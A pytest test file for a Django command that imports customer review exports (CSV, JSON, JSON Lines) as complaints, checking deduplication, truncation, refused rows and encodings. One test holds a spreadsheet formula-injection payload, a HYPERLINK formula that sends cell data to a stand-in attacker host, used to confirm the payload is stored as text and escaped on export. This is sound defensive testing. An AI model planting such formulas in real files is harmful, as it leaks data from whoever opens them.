"""`doleances import-posts FILE --source NAME`: CSV and JSON exports, each post once, formulas kept
as text, a 1 MB post truncated with a clear message and kept whole, a summary line at the end."""

from __future__ import annotations

import csv
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from doleances.complaints.models import Complaint
from doleances.core.spreadsheets import safe_cell
from doleances.intake.models import InboundPost, PostSource

HEADER = ["Auteur", "Pseudo", "Avis", "Lien", "Note", "Date", "ID"]
MAPPING = ["--map", "author=Auteur", "--map", "handle=Pseudo", "--map", "text=Avis", "--map", "url=Lien"]
MAPPING += ["--map", "rating=Note", "--map", "date=Date", "--map", "external_id=ID"]


def write_csv(path, rows, *, header=HEADER, delimiter=","):
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def run(path, *options, source="avis") -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("import_posts", str(path), "--source", source, *options, stdout=out, stderr=err)
    return out.getvalue().strip(), err.getvalue().strip()


ROWS = [
    ["Jeanne Martin", "@jeanne", "Livraison en retard de trois semaines.", "https://avis.example/r/1", "1", "2026-11-30", "r-1"],
    ["Paul Durand", "@paul", "Personne ne répond au téléphone.", "https://avis.example/r/2", "2", "2026-12-01T08:00:00Z", "r-2"],
]


def test_a_csv_export_opens_one_review_complaint_per_post_and_saves_the_mapping(reviews, tmp_path):
    out, err = run(write_csv(tmp_path / "avis.csv", ROWS), *MAPPING)

    assert out == "created 2, duplicates 0, truncated 0, refused 0"
    assert err == ""
    assert sorted(Complaint.objects.values_list("channel", "description")) == [
        ("review", "Livraison en retard de trois semaines."),
        ("review", "Personne ne répond au téléphone."),
    ]
    first = InboundPost.objects.get(external_id="r-1")
    assert (first.url, first.handle, first.author, str(first.rating), first.origin) == (
        "https://avis.example/r/1",
        "@jeanne",
        "Jeanne Martin",
        "1.00",
        "import",
    )
    assert PostSource.objects.get(name="avis").mapping["text"] == "Avis"  # next time, no --map needed


def test_importing_the_same_export_again_adds_nothing(reviews, tmp_path):
    path = write_csv(tmp_path / "avis.csv", ROWS)
    run(path, *MAPPING)
    out, _ = run(path)  # the saved mapping is used
    assert out == "created 0, duplicates 2, truncated 0, refused 0"
    assert Complaint.objects.count() == InboundPost.objects.count() == 2


def test_posts_without_an_external_id_are_recognised_by_their_url(reviews, tmp_path):
    rows = [[*row[:6], ""] for row in ROWS]
    path = write_csv(tmp_path / "avis.csv", rows)
    run(path, *MAPPING)
    out, _ = run(path)
    assert out.startswith("created 0, duplicates 2")


def test_a_formula_cell_is_stored_as_text_and_never_exported_as_a_formula(reviews, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    run(write_csv(tmp_path / "avis.csv", [["Mallory", "@m", formula, "", "", "", "r-9"]]), *MAPPING)
    complaint = Complaint.objects.get()
    assert complaint.description == formula  # what the customer wrote, as characters
    assert safe_cell(complaint.description) == "'" + formula  # a spreadsheet shows it, never runs it


def test_a_one_megabyte_post_is_truncated_with_a_clear_message_and_kept_whole(reviews, tmp_path):
    text = "Colis abîmé. " * 80_000  # about 1 MB
    out, err = run(write_csv(tmp_path / "avis.csv", [["Jeanne", "@j", text, "", "", "", "big"]]), *MAPPING)
    complaint = Complaint.objects.get()
    assert out == "created 1, duplicates 0, truncated 1, refused 0"
    expected = f"line 2: text of {len(text.strip())} characters truncated in {complaint.reference}"
    assert err == expected + " (the whole text is kept with the post)"
    assert InboundPost.objects.get().full_text == text.strip()


def test_bad_rows_are_refused_with_their_line_and_the_rest_is_imported(reviews, tmp_path):
    rows = [ROWS[0], ["X", "@x", "", "", "", "", "r-empty"], ["Y", "@y", "Texte", "ftp://nope", "", "", "r-url"], ROWS[1]]
    out, err = run(write_csv(tmp_path / "avis.csv", rows), *MAPPING)
    assert out == "created 2, duplicates 0, truncated 0, refused 2"
    assert err.splitlines() == [
        "line 3: refused (text_missing): The post has no text (field “Avis”).",
        "line 4: refused (invalid_url): The post's address must be an http(s) URL.",
    ]


def test_a_semicolon_csv_from_a_french_spreadsheet_is_read(reviews, tmp_path):
    out, _ = run(write_csv(tmp_path / "avis.csv", ROWS, delimiter=";"), *MAPPING)
    assert out.startswith("created 2,")


def test_a_json_export_is_a_list_or_an_object_holding_one(reviews, tmp_path):
    posts = [{"id": "j-1", "text": "Facture fausse", "permalink": "https://social.example/p/1", "user": {"handle": "@a"}}]
    (tmp_path / "a.json").write_text(json.dumps({"data": posts}), encoding="utf-8")
    out, _ = run(tmp_path / "a.json", "--map", "external_id=id", "--map", "url=permalink", "--map", "handle=user.handle")
    assert out == "created 1, duplicates 0, truncated 0, refused 0"
    assert InboundPost.objects.get().handle == "@a"


def test_json_lines_are_read_line_by_line(reviews, tmp_path):
    (tmp_path / "a.jsonl").write_text('{"text": "Un"}\nnot json\n{"text": "Deux"}\n', encoding="utf-8")
    out, err = run(tmp_path / "a.jsonl")
    assert out == "created 2, duplicates 0, truncated 0, refused 1"
    assert err.startswith("line 2: refused (invalid_row)")


def test_an_unknown_source_is_a_clear_error(reviews, tmp_path):
    with pytest.raises(CommandError, match="No post source named 'nope' \\(known: avis\\)"):
        run(write_csv(tmp_path / "a.csv", ROWS), source="nope")


def test_an_unknown_field_in_the_mapping_is_a_clear_error(reviews, tmp_path):
    with pytest.raises(CommandError, match="stars"):  # named, in the desk's language
        run(write_csv(tmp_path / "a.csv", ROWS), "--map", "stars=Note")


def test_a_file_that_is_not_json_is_a_clear_error(reviews, tmp_path):
    (tmp_path / "a.json").write_text("{oops", encoding="utf-8")
    with pytest.raises(CommandError, match=r"a\.json is not JSON"):
        run(tmp_path / "a.json")


def test_a_windows_1252_csv_is_read(reviews, tmp_path):
    path = tmp_path / "avis.csv"
    path.write_bytes("Avis,ID\nTrès déçu,w-1\n".encode("cp1252"))
    run(path, "--map", "text=Avis", "--map", "external_id=ID")
    assert Complaint.objects.get().description == "Très déçu"
